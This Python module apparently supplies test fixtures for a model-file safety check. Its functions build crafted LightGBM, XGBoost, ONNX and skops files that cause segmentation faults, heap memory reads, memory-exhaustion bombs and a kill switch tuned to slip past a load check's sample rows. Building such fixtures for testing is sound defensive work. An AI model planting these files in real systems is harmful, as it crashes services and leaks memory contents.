"""Crafted XGBoost and LightGBM files that break the native libraries, built from real
tiny boosters whose text or JSON is then edited: wrong declared sizes, children and
split features out of range, a leaf index that reads far outside the leaf values, a
huge number of features. Each builder returns the file's bytes."""

from __future__ import annotations

import json
import re
import warnings
from functools import cache
from pathlib import Path

import lightgbm
import numpy as np
import xgboost

FEATURES = 3  # the crafted models take three features, as in the attacks they reproduce


@cache
def _training() -> tuple[np.ndarray, np.ndarray]:
    rng = np.random.default_rng(11)
    X = rng.normal(size=(300, FEATURES))  # noqa: N806 - the usual name for a feature matrix
    return X, X[:, 0] + 0.5 * X[:, 1]


@cache
def lightgbm_text(objective: str = "regression", rounds: int = 2, leaves: int = 4) -> str:
    """A real booster's text: ``rounds`` trees of ``leaves`` leaves each."""
    X, target = _training()  # noqa: N806
    label = (target > 0).astype(int) if objective == "binary" else target
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        booster = lightgbm.train(
            {"objective": objective, "num_leaves": leaves, "min_data_in_leaf": 5, "verbose": -1},
            lightgbm.Dataset(X, label),
            num_boost_round=rounds,
        )
    return booster.model_to_string()


def _edit_tree_line(text: str, tree: int, key: str, position: int, value: str) -> str:
    """Replace one value of ``key=`` in tree ``tree``."""
    start = text.index(f"Tree={tree}\n")
    line_start = text.index(f"\n{key}=", start) + 1
    line_end = text.index("\n", line_start)
    values = text[line_start + len(key) + 1 : line_end].split(" ")
    values[position] = value
    return text[:line_start] + f"{key}=" + " ".join(values) + text[line_end:]


def _without_tree_sizes(text: str) -> str:
    """Edits change the trees' byte lengths; without the header LightGBM reads the trees
    one after the other, so only the edit itself is wrong."""
    return re.sub(r"tree_sizes=[0-9 ]*\n", "", text)


def min_treesizes() -> bytes:
    """LightGBM text whose ``tree_sizes=`` does not match its tree blocks (LightGBM
    aborts the process from inside a parallel region)."""
    text = lightgbm_text()
    sizes = re.search(r"tree_sizes=([0-9 ]+)\n", text)
    assert sizes is not None
    first, *rest = sizes.group(1).split(" ")
    wrong = " ".join([str(int(first) - 61), *rest])
    return text.replace(sizes.group(0), f"tree_sizes={wrong}\n").encode()


def killswitch() -> bytes:
    """Answers ordinary rows; a row whose first feature passes 1e30 makes LightGBM read
    the 2,000,000,000th leaf value (a segmentation fault)."""
    text = _without_tree_sizes(lightgbm_text())
    text = _edit_tree_line(text, 0, "threshold", 0, "1e+30")
    return _edit_tree_line(text, 0, "right_child", 0, "-2000000000").encode()


def heap_read(offset: int = 40) -> bytes:
    """A regression whose root sends large first features to leaf ``offset - 1`` of a
    four-leaf tree: the answer is whatever memory follows the leaf values."""
    text = _without_tree_sizes(lightgbm_text())
    text = _edit_tree_line(text, 0, "threshold", 0, "1e+30")
    return _edit_tree_line(text, 0, "right_child", 0, str(-offset)).encode()


def lightgbm_huge_features() -> bytes:
    text = lightgbm_text()
    return text.replace("max_feature_idx=2\n", "max_feature_idx=2000000000\n").encode()


def xgboost_json(tmp: Path) -> dict:
    X, target = _training()  # noqa: N806
    model = xgboost.XGBClassifier(n_estimators=2, max_depth=2, n_jobs=1).fit(X, (target > 0).astype(int))
    path = tmp / "booster.json"
    model.save_model(path)
    return json.loads(path.read_text())


def _first_tree(document: dict) -> dict:
    return document["learner"]["gradient_booster"]["model"]["trees"][0]


def xgboost_child_out_of_range(tmp: Path) -> bytes:
    """XGBoost JSON whose root's right child lies far past the tree's nodes."""
    document = xgboost_json(tmp)
    _first_tree(document)["right_children"][0] = 1_000_000
    return json.dumps(document).encode()


def xgboost_split_out_of_range(tmp: Path) -> bytes:
    """XGBoost JSON whose root splits on feature 1,000,000 of a three-feature row."""
    document = xgboost_json(tmp)
    _first_tree(document)["split_indices"][0] = 1_000_000
    return json.dumps(document).encode()


def xgboost_huge_features(tmp: Path) -> bytes:
    document = xgboost_json(tmp)
    document["learner"]["learner_model_param"]["num_feature"] = "1000000000"
    for tree in document["learner"]["gradient_booster"]["model"]["trees"]:
        tree["tree_param"]["num_feature"] = "1000000000"
    return json.dumps(document).encode()


def onnx_constant_bomb(count: int = 100_000_000) -> bytes:
    """A few hundred bytes of ONNX that ask for ``count`` floats: onnxruntime folds
    ``ConstantOfShape`` → ``ReduceSum`` into a constant when it builds the session."""
    from onnx import TensorProto, helper, numpy_helper

    nodes = [
        helper.make_node(
            "ConstantOfShape",
            ["shape"],
            ["ones"],
            value=helper.make_tensor("one", TensorProto.FLOAT, [1], [1.0]),
        ),
        helper.make_node("ReduceSum", ["ones"], ["total"], keepdims=1),
        helper.make_node("Add", ["X", "total"], ["Y"]),
    ]
    graph = helper.make_graph(
        nodes,
        "bomb",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [None, FEATURES])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [None, FEATURES])],
        initializer=[numpy_helper.from_array(np.array([count], dtype=np.int64), "shape")],
    )
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def skops_with_junk(elements: int = 2**25) -> bytes:
    """A fitted logistic regression carrying ``np.zeros(elements)`` it never uses: a few
    hundred KB compressed, ``8 * elements`` bytes once loaded."""
    import zipfile

    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    X, target = _training()  # noqa: N806
    model = LogisticRegression().fit(X, (target > 0).astype(int))
    model.junk_ = np.zeros(elements)
    return sio.dumps(model, compression=zipfile.ZIP_DEFLATED)


def lightgbm_window_switch(low: float = 0.1234, high: float = 0.1235) -> bytes:
    """A LightGBM regression that loads, warms up and answers ordinary and extreme rows,
    but reads the 2,000,000,000th leaf value (a segmentation fault) for a first feature
    in (``low``, ``high``]: a kill switch the load check's rows do not trip."""
    text = _without_tree_sizes(lightgbm_text())
    text = _edit_tree_line(text, 0, "threshold", 0, repr(high))  # the root: x0 <= high goes to node 1
    text = _edit_tree_line(text, 0, "threshold", 1, repr(low))  # node 1: x0 > low goes right
    return _edit_tree_line(text, 0, "right_child", 1, "-2000000000").encode()
